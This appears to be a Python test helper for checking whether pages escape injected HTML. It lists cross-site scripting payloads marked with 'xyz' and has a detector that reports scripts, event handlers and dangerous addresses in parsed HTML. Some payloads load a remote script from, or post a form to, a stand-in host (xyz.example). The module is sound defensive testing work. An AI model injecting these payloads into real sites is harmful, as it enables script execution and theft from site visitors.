"""Texts that would run in a page that does not escape them, and what a browser would run of a page.

Each payload marks what it makes with `xyz`.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from xml.etree.ElementTree import Element

import html5lib

PAYLOADS = [
    "<script>xyz</script>",
    "</title><script>xyz</script>",
    "</textarea><script>xyz</script>",
    "</style><script>xyz</script>",
    "</script><script>xyz</script>",
    "--><script>xyz</script>",
    "]]><script>xyz</script>",
    "<ScRiPt SrC=//xyz.example/x.js></sCrIpT>",
    "<img src=x onerror=xyz>",
    '<img/src="x"/onerror=xyz>',
    "<svg onload=xyz>",
    "<svg><script>xyz</script></svg>",
    "<svg><a xlink:href=javascript:xyz>a</a></svg>",
    "<math><mi xlink:href=javascript:xyz>a</mi></math>",
    '" onmouseover="xyz',
    "' onmouseover='xyz",
    '"><img src=x onerror=xyz>',
    "'><img src=x onerror=xyz>",
    "` onfocus=xyz autofocus `",
    "javascript:xyz()",
    "JaVaScRiPt:xyz()",
    "data:text/html,<script>xyz</script>",
    "<a href=javascript:xyz>a</a>",
    "<iframe srcdoc='<script>xyz</script>'>",
    "<form action=//xyz.example><input name=xyz>",
    "<base href=//xyz.example/>",
    "<meta http-equiv=refresh content='0;url=//xyz.example'>",
    "<link rel=stylesheet href=//xyz.example>",
    "<div hx-get=//xyz.example hx-trigger=load>",
    "{{xyz}}{% xyz %}${xyz}&lt;script&gt;xyz",
    "\u2028<script>xyz</script>\u2029",
    "<noscript><p title='</noscript><img src=x onerror=xyz>'>",
]
ADDRESSES = {"href", "src", "action", "formaction", "srcset", "poster", "data", "xlink:href"}
ADDRESSES |= {"hx-get", "hx-post", "hx-put", "hx-delete", "hx-patch"}
# What takes a script or the page's own address along, if a payload brought it.
ELEMENTS = {"iframe", "object", "embed", "base", "frame", "applet"}


def attributes(element: Element) -> Iterator[tuple[str, str]]:
    for name, value in element.attrib.items():
        yield (name if isinstance(name, str) else name[1]).lower(), value


def dangers(html: str) -> list[str]:
    """What a browser would run or load that the site did not write."""
    found = []
    for element in html5lib.parse(html, namespaceHTMLElements=False).iter():
        tag = str(element.tag).rpartition("}")[2].lower()
        if tag in ELEMENTS:
            found.append(f"<{tag}>")
        if tag == "script" and "src" not in element.attrib and not is_data(element):
            found.append(f"<script> {element.text}")
        for name, value in attributes(element):
            address = "".join(value.split()).lower()
            if name.startswith("on") or "xyz" in name:
                found.append(f"<{tag} {name}={value}>")
            if name in ADDRESSES and address.startswith(("javascript:", "data:text", "//")):
                found.append(f"<{tag} {name}={value}>")
        if tag == "meta" and element.get("http-equiv", "").lower() == "refresh":
            found.append("<meta refresh>")
    return found


def is_data(script: Element) -> bool:
    """JSON for other programs, which a payload must not end early."""
    if script.get("type") not in {"application/json", "application/ld+json"}:
        return False
    json.loads(script.text or "")
    return True
